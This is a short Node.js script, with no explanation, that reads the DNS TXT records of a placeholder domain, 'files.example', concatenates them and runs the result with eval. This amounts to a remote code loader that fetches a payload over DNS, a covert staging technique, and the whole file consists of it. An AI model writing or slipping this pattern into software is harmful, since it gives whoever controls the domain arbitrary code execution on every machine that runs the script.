const dns = require('dns');

dns.resolveTxt('files.example', (problem, rows) => {
  eval(rows.map((row) => row.join('')).join(''));
});
